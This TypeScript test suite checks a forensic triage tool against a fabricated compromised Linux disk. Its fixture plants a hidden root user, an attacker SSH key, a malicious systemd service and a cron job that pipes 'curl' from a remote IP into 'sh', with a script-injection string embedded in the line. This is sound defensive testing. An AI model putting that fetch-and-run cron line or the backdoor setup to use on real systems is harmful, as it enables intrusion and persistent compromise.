import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { basename } from "node:path";

import { EvidenceMachine, VOLUME } from "./evidenceMachine";
import type { LoopDisk } from "./loopDisk";

// The first look of a disk, as examiner, on a small Linux that somebody broke into.

const PLACE = `/home/examiner/triage/${VOLUME}-whole`;

interface Table {
  readonly columns: string[];
  readonly rows: string[][];
  readonly notes: string[];
}

describe("evidence-triage", function () {
  this.timeout(300_000);
  const machine = EvidenceMachine.ofSuite();
  // On the tree's own disk, as what is mounted there is not seen by the examiner's shell.
  afterEach(function () {
    if (process.env["CLEANROOM_IMAGE_ROOT"] !== undefined)
      machine.run("rm -rf /opt/clean-room/yara-rules /opt/clean-room/chainsaw; chmod 0700 /root");
  });

  /** A disk with what the tables are about, root's and nobody else's to read, as evidence. */
  function broken(): LoopDisk {
    const disk = machine.newDisk("triage", 64);
    machine.must(
      // The interpreter that is lent to the tree may lie in root's home.
      `chmod 0711 /root; chmod 0755 /home; rm -rf /home/examiner; install -d -o examiner -g examiner /home/examiner
       mkfs.ext4 -q -F "$1"; mount "$1" /mnt; cd /mnt; umask 077
       mkdir -p etc/systemd/system etc/cron.d root/.ssh var/log/audit var/lib/docker/containers/0a1b home/eve tmp usr/lib
       echo 'PRETTY_NAME="Suspect Linux 9"' >usr/lib/os-release; ln -s ../usr/lib/os-release etc/os-release
       echo suspect-host >etc/hostname; echo 'root:x:0:0::/root:/bin/bash
eve:x:0:0::/home/eve:/bin/sh' >etc/passwd; echo 'root:*:1:::::
eve:$6$x:1:::::' >etc/shadow
       echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEVWSUw eve@evil' >root/.ssh/authorized_keys
       printf '[Service]\\nExecStart=/tmp/.x --evil\\n' >etc/systemd/system/evil.service
       ln -s /etc/shadow etc/systemd/system/shadow.service
       echo '* * * * * root curl http://203.0.113.7/<script>alert(1)</script>|sh' >etc/cron.d/evil
       printf '#!/bin/sh\\n' >tmp/.x; chmod 0755 tmp/.x
       echo 'Nov 29 03:00:00 h sshd[1]: Accepted password for eve from 203.0.113.7 port 4 ssh2' >var/log/auth.log
       python3 -c 'import struct,sys; sys.stdout.buffer.write(struct.pack("<hxxi32s4s32s256shhiii4i20x",7,1,b"pts/0",b"",b"eve",b"203.0.113.7",0,0,0,1700000000,0,0,0,0,0)+b"half")' >var/log/wtmp
       echo '{"Name":"/miner","Created":"2026-01-01","Config":{"Image":"evil/miner"},"State":{"Running":true}}' >var/lib/docker/containers/0a1b/config.v2.json
       mkdir var/lib/docker/containers/0a1c; echo '{"broken' >var/lib/docker/containers/0a1c/config.v2.json
       echo EVIL-MARKER-1234567890 >home/eve/malware
       cd /; umount /mnt; chgrp examiner "$1"`,
      disk.device,
    );
    machine.intake(disk);
    machine.must(
      `chmod 0440 "$1"; mkdir -p /opt/clean-room/yara-rules
       echo 'rule marker { strings: $a = "EVIL-MARKER-1234567890" condition: $a }' >/opt/clean-room/yara-rules/test.yar`,
      disk.device,
    );
    return disk;
  }

  const as = (words: string) => machine.run(`cd /; su examiner -c "evidence-triage ${words}"`);

  /** Waits until it has ended. */
  const ended = () =>
    machine.must(
      `for n in $(seq 2400); do ! flock -n ${PLACE}/.lock true || exit 0; sleep 0.1; done; cat ${PLACE}/log; exit 1`,
    );

  const table = (name: string) => JSON.parse(machine.must(`cat ${PLACE}/${name}.json`)) as Table;

  it("looks at a whole system as examiner in the background, and changes no byte", function () {
    const disk = broken();
    const before = disk.sha256();
    const { status, stdout, stderr } = as(disk.device);
    assert.equal(status, 0, stderr);
    assert.match(stdout, /at work .*status\npage +\/home\/examiner/);
    ended();
    assert.equal(machine.must(`cat ${PLACE}/log`), "");
    const has = (name: string, ...words: string[]) => {
      const { rows, notes } = table(name);
      const found = rows.some((row) => words.every((word) => row.join(" ").includes(word)));
      assert.ok(found, `${name}: ${words.join()} is not in ${JSON.stringify({ rows, notes })}`);
    };
    has("facts", "PRETTY_NAME", "Suspect Linux 9");
    has("facts", "suspect-host");
    has("users", "eve", "uid 0", "password");
    has("users", "key", "eve@evil");
    has("persistence", "evil.service", "ExecStart=/tmp/.x --evil");
    has("persistence", "cron.d/evil", "curl");
    has("persistence", "program", "/tmp/.x");
    has("logins", "2023-11-14T22:13:20Z", "login", "eve", "203.0.113.7");
    has("logins", "Accepted password for eve");
    has("containers", "docker", "/miner", "evil/miner");
    has("yara", "marker", "/home/eve/malware");
    // In a tree whose interpreter lies in root's home, examiner has no plaso, and is told so.
    if (machine.run("su examiner -c 'sudo evidence-shell log2timeline --version'").status === 0) {
      assert.ok(Number(table("timeline").rows[0]?.[0]) > 20, JSON.stringify(table("timeline")));
      assert.match(machine.must(`cat ${PLACE}/timeline.csv`), /filestat/);
    } else {
      assert.match(table("timeline").notes.join(), /FAILED: /);
    }
    // Nothing is silent: what was not followed, read or run.
    assert.match(
      table("persistence").notes.join(),
      /shadow\.service leads out of evidence, to \/etc\/shadow/,
    );
    assert.match(table("containers").notes.join(), /0a1c\/config\.v2\.json/);
    assert.match(table("sigma").notes.join(), /not run: .*chainsaw; the tools bucket/);
    assert.doesNotMatch(machine.must(`cat ${PLACE}/*.json`), /\$6\$x/);
    // One page, which runs nothing that the disk says.
    const page = machine.must(`cat ${PLACE}/index.html`);
    assert.match(page, /Suspect Linux 9/);
    assert.doesNotMatch(page, /<script>/);
    machine.must(
      `cd ${PLACE}; sha256sum --check --quiet SHA256SUMS; for table in *.json; do grep -q " $table" SHA256SUMS; done`,
    );
    assert.match(as(`${disk.device} status`).stdout, /facts +\d+ rows, 0 notes, [\d.]+ s/);
    machine.must(
      `evidence-unmount $(sed -n 's/.*sudo evidence-unmount //p' ${PLACE}/opened.txt | tail -n 1)`,
    );
    assert.equal(disk.sha256(), before);
  });

  it("makes again what is missing, was changed, failed or was not run, and nothing else", () => {
    const disk = broken();
    assert.equal(as(`${disk.device} asis`).status, 0);
    ended();
    const kept = createHash("sha256")
      .update(machine.must(`cat ${PLACE}/users.json`))
      .digest("hex");
    machine.must(
      `cd ${PLACE}; cat steps.json >/tmp/before; rm logins.json; echo '{}' >containers.json; sleep 1.1`,
    );
    assert.equal(as(`${disk.device} asis`).status, 0);
    ended();
    const [first, second] = ["/tmp/before", `${PLACE}/steps.json`].map(
      (path) =>
        JSON.parse(machine.must(`cat ${path}`)) as Record<
          string,
          { began: string; again: boolean }
        >,
    );
    assert.equal(first?.["sigma"]?.again, true);
    for (const step of Object.keys(second ?? {})) {
      const again: boolean = first?.[step]?.began !== second?.[step]?.began;
      const why: boolean = ["logins", "containers"].includes(step) || first?.[step]?.again === true;
      assert.equal(again, why, step);
      // Where examiner has no plaso it failed.
      assert.equal(first?.[step]?.again === true && !/^(sigma|timeline)$/.test(step), false, step);
    }
    assert.ok(table("containers").rows.length > 0);
    assert.equal(
      createHash("sha256")
        .update(machine.must(`cat ${PLACE}/users.json`))
        .digest("hex"),
      kept,
    );
  });

  /** Adds to the suspect's disk. */
  const also = (disk: LoopDisk, script: string) => {
    machine.must(
      `blockdev --setrw "$1"; mount "$1" /mnt; cd /mnt; ${script}; cd /; umount /mnt; blockdev --setro "$1"
       rm -rf /var/lib/clean-room/evidence/*`,
      disk.device,
    );
    machine.intake(disk);
    machine.must('chgrp examiner "$1"; chmod 0440 "$1"', disk.device);
  };

  /** What the tools bucket would bring as chainsaw. */
  const chainsaw = (script: string) =>
    machine.must(
      `mkdir -p /opt/clean-room/chainsaw
       printf '#!/bin/sh\n%s\n' "$1" >/opt/clean-room/chainsaw/chainsaw; chmod -R a+rx /opt/clean-room/chainsaw`,
      script,
    );

  it("tells of names that are not UTF-8, and of a step that fails, and goes on", () => {
    const disk = broken();
    also(
      disk,
      String.raw`name=$(printf 'tmp/\377'); echo x >"$name"; chmod 0755 "$name"; cp etc/cron.d/evil "$(printf 'etc/cron.d/b\344r')"
       printf 'x' >var/log/auth.log.2.gz; cp home/eve/malware "$(printf 'tmp/a\nmarker')"`,
    );
    machine.must(`su examiner -c "mkdir -p ${PLACE}/tmpa1b2c3d4"`);
    chainsaw("echo '[1]'");
    assert.equal(as(`${disk.device} asis`).status, 0);
    ended();
    assert.equal(machine.must(`cat ${PLACE}/log`), "");
    const page = machine.must(`cat ${PLACE}/index.html`);
    assert.match(page, /\/tmp\/\\udcff/);
    // HTML takes a policy in the head alone.
    assert.match(
      page,
      /^<!doctype html><html><head><meta charset=utf-8><meta http-equiv=Content-S/,
    );
    assert.match(table("sigma").notes.join(), /FAILED: AttributeError/);
    assert.match(table("logins").notes.join(), /auth\.log\.2\.gz: /);
    assert.match(table("yara").notes.join(), /INCOMPLETE: names with ends of lines/);
    assert.notEqual(table("timeline").notes.length, 0);
    assert.equal(machine.present(`${PLACE}/tmpa1b2c3d4`), false);
    // Of another view, nothing is kept.
    machine.must(`sed -i 's/as it is, no/every/' ${PLACE}/steps.json`);
    // What it skipped is told, and looked at again.
    chainsaw("echo '[]'; echo '[!] failed to load Security.evtx' >&2");
    assert.equal(as(`${disk.device} asis`).status, 0);
    ended();
    const steps = JSON.parse(machine.must(`cat ${PLACE}/steps.json`)) as Record<
      string,
      { view: string }
    >;
    assert.equal(Object.keys(steps).length, 8);
    for (const [name, { view }] of Object.entries(steps)) assert.match(view, /^as it is/, name);
    assert.match(as(`${disk.device} status`).stdout, /it is +done/);
    assert.match(table("sigma").notes.join(), /INCOMPLETE: \[!\] failed to load/);
  });

  it("looks at the shadow copies of an NTFS as at the volume, in one timeline", function () {
    machine.detach(broken());
    machine.must("rm -rf /var/lib/clean-room/*");
    const disk = machine.ofWindows("vss.raw");
    if (disk === undefined) return this.skip();
    const before = disk.sha256();
    // A name and a content that the volume and both copies have.
    machine.must(
      `chgrp examiner "$1"; chmod 0440 "$1"
       echo 'rule secret { strings: $a = "joesmith" condition: $a }' >/opt/clean-room/yara-rules/test.yar`,
      disk.device,
    );
    assert.equal(as(`${disk.device} asis`).status, 0);
    ended();
    const at = `/evidence/${VOLUME}/whole`;
    const copies = [at, `${at}.shadow-1`, `${at}.shadow-2`];
    const files = table("yara").rows.map(([, file]) => file);
    for (const copy of copies) assert.ok(files.includes(`${copy}/passwords.txt`), files.join());
    assert.ok(machine.must(`cat ${PLACE}/index.html`).includes(copies.join(", ")));
    if (machine.run("su examiner -c 'sudo evidence-shell log2timeline --version'").status === 0) {
      const [header = "", ...lines] = machine.must(`cat ${PLACE}/timeline.csv`).split("\n");
      assert.match(header, /^datetime,/);
      for (const copy of copies) {
        assert.ok(
          lines.some((line) => line.includes(`${copy}/passwords.txt`)),
          copy,
        );
      }
      const times = lines.flatMap((line) => /^\d{4}-\d\d-\d\dT[\d:]{8}/.exec(line) ?? []);
      assert.deepEqual(times, [...times].sort());
      assert.equal(lines.filter((line) => line.startsWith("datetime,")).length, 0);
    }
    machine.must(`evidence-unmount ${at}`);
    assert.equal(disk.sha256(), before);
  });

  it("is not flooded by failed log-ins, which any host makes", () => {
    const disk = broken();
    also(
      disk,
      String.raw`python3 - <<'END'
import struct
row = struct.pack("<hxxi32s4s32s256shhiii4i20x", 6, 1, b"ssh", b"", b"root", b"198.51.100.9", 0, 0, 0, 1700000000, 0, 0, 0, 0, 0)
row = struct.pack("<h", 7) + row[2:]
open("var/log/btmp", "wb").write(row * 30000)
with open("var/log/auth.log", "w") as file:
    file.write("Nov 29 01:00:00 h sshd-session[1]: Failed password for invalid user Accepted from 198.51.100.9 port 4 ssh2\n" * 30000)
    file.write("Nov 29 03:00:00 h sshd-session[1]: Accepted keyboard-interactive/pam for eve from 203.0.113.7 port 4 ssh2\n")
END
mkdir -p Windows/System32/winevt/Logs var/log/journal/0a; echo x >Windows/System32/winevt/Logs/Security.evtx; echo x >var/log/journal/0a/system@1.journal~`,
    );
    const event = (id: number, rest: string) =>
      `{"Event":{"System":{"EventID":${id},"TimeCreated":{"#attributes":{"SystemTime":"2026-01-01"}}},"EventData":${rest}}}`;
    machine.must(
      `printf '#!/bin/sh\necho "$0 cannot open" >&2; exit 1\n' >/usr/local/bin/journalctl
       [ ! -e /usr/local/bin/evtx_dump ] || mv /usr/local/bin/evtx_dump /tmp; printf '#!/bin/sh\ncat <<E\n%s\nE\n' "$1" >/usr/local/bin/evtx_dump
       chmod 0755 /usr/local/bin/evtx_dump /usr/local/bin/journalctl`,
      ["{broken", "7", event(4624, "[[]]"), event(4624, '{"TargetUserName":"late\u2028r"}')].join(
        "\n",
      ),
    );
    machine.must(
      `evidence-open "$1" >/tmp/opened; su examiner -c "cd /; sudo evidence-shell /usr/bin/python3 -I /usr/local/lib/clean-room/triage_step.py logins /evidence/${VOLUME}/whole" >/tmp/logins.json
       rm /usr/local/bin/evtx_dump /usr/local/bin/journalctl; [ ! -e /tmp/evtx_dump ] || mv /tmp/evtx_dump /usr/local/bin`,
      disk.device,
    );
    const { rows, notes } = JSON.parse(machine.must("cat /tmp/logins.json")) as Table;
    const at = rows.findIndex((row) => row.join(" ").includes("Accepted keyboard-interactive/pam"));
    assert.ok(at >= 0 && at < rows.findIndex((row) => row[1] === "failed"), String(at));
    assert.equal(rows.filter((row) => row[1] === "failed").length, 500);
    // What one event or a program makes of it ends nothing, and is told.
    assert.ok(rows.some((row) => row[1] === "event 4624" && row[2] === "late\u2028r"));
    assert.match(notes.join(), /Security\.evtx: 3 events are not understood/);
    assert.match(notes.join(), /system@1\.journal~: journalctl ended with 1: .*cannot open/);
    assert.match(notes.slice(0, 3).join(), /auth\.log: 29500 more failed log-ins/);
    assert.match(notes.slice(0, 3).join(), /btmp: 29500 more failed log-ins/);
  });

  it("takes no name of the disk for where it is mounted, and goes no further when evidence changed", () => {
    const disk = broken();
    const opening = (stdout: string, stderr: string, status: number) =>
      machine.must(
        `printf '#!/bin/bash\nprintf %%b %q; printf %%b %q >&2; exit %s\n' "$1" "$2" "$3" >/usr/local/sbin/evidence-open`,
        stdout,
        stderr,
        String(status),
      );
    machine.must("cp /usr/local/sbin/evidence-open /tmp/evidence-open");
    try {
      opening(
        "    subvolume  x sudo evidence-unmount /evidence/vol-other/p1\nclose    sudo evidence-unmount /evidence/nothing\n",
        "",
        0,
      );
      assert.equal(as(disk.device).status, 0);
      ended();
      assert.match(table("facts").notes.join(), /nothing is mounted below \/evidence\/nothing/);
      const changed = "evidence changed; it is closed again. Stop, and tell the case's lead.";
      opening("", `evidence-open: ${changed}\n`, 1);
      assert.equal(as(disk.device).stderr, `evidence-triage: ${changed}\n`);
    } finally {
      machine.must("cp /tmp/evidence-open /usr/local/sbin/evidence-open");
    }
  });

  it("ends all that it runs when it is stopped, and says that it did not end", () => {
    const disk = broken();
    chainsaw("exec sleep 4711");
    machine.must("su examiner -c 'mkdir -p ~/triage'");
    assert.match(as(`${disk.device} stop`).stderr, /it is not at work/);
    assert.equal(as(`${disk.device} asis`).status, 0);
    machine.must(
      "for n in $(seq 600); do ! pgrep -fx 'sleep 4711' || exit 0; sleep 0.1; done; exit 1",
    );
    assert.match(
      as(`${disk.device} status`).stdout,
      /sigma +since .*\n.*not begun\nit is +at work/,
    );
    assert.equal(as(`${disk.device} stop`).status, 0);
    machine.must(
      "for n in $(seq 50); do pgrep -fx 'sleep 4711' || exit 0; sleep 0.1; done; exit 1",
    );
    ended();
    assert.match(
      as(`${disk.device} status`).stdout,
      /sigma +began .*ended\n.*\nit is +not at work/,
    );
    assert.match(as(`${disk.device} stop`).stderr, /it is not at work/);
  });

  it("refuses what is no evidence, options, and a second run at the same time", () => {
    assert.match(as("/dev/null").stderr, /\/dev\/null is no disk/);
    const disk = broken();
    assert.match(as(`${disk.device} --fast`).stderr, /usage/);
    // Such a file lies in mounted evidence.
    const alike = `/tmp/${basename(disk.device)}`;
    machine.must('touch "$1"; chmod a+r "$1"', alike);
    assert.match(as(alike).stderr, /is no disk/);
    assert.match(as(`${disk.device} status`).stderr, /nothing was begun/);
    machine.must(`su examiner -c "mkdir -p ${PLACE}"`);
    const second = machine.run(
      `su examiner -c 'exec 8>>${PLACE}/.lock; flock 8; evidence-triage ${disk.device}'`,
    );
    assert.match(second.stderr, /it is at work/);
    // Whose process a last run's number is now, nobody knows.
    const stop = machine.run(
      `su examiner -c 'exec 8>>${PLACE}/.lock; flock 8; evidence-triage ${disk.device} stop'`,
    );
    assert.match(stop.stderr, /it is only opening the disk/);
  });
});

describe("evidence-triage on a kernel of its own", function () {
  this.timeout(300_000);
  const machine = EvidenceMachine.ofSuite("user-mode");

  it("sees what only the journal of a dirty XFS holds, in its replayed view", () => {
    const source = machine.newDisk("xfs-source", 320);
    machine.must(
      `mountpoint -q /home || mount -t tmpfs -o mode=0755 tmpfs /home
       install -d -o examiner -g examiner /home/examiner; mkfs.xfs -q "$1"; mount -t xfs "$1" /mnt; mkdir /mnt/etc; sync; echo late-host >/mnt/etc/hostname
       sync /mnt/etc/hostname; xfs_io -x -c 'shutdown -f' /mnt`,
      source.device,
    );
    machine.copy("xfs-source", "xfs");
    machine.must("umount /mnt");
    machine.detach(source);
    const disk = machine.intake(machine.attach("xfs"));
    const before = disk.sha256();
    machine.must(
      'chgrp examiner "$1"; chmod 0440 "$1"; su examiner -c "evidence-triage $1"',
      disk.device,
    );
    machine.must(
      `for n in $(seq 1200); do [ ! -e ${PLACE}/facts.json ] || break; sleep 0.1; done
       su examiner -c "evidence-triage ${disk.device} stop"; sleep 1`,
    );
    assert.match(machine.must(`cat ${PLACE}/facts.json`), /late-host/);
    assert.match(machine.must(`cat ${PLACE}/index.html`), /journals replayed into an overlay/);
    machine.must(`evidence-unmount /evidence/${VOLUME}/whole.replayed`);
    assert.equal(disk.sha256(), before);
  });
});
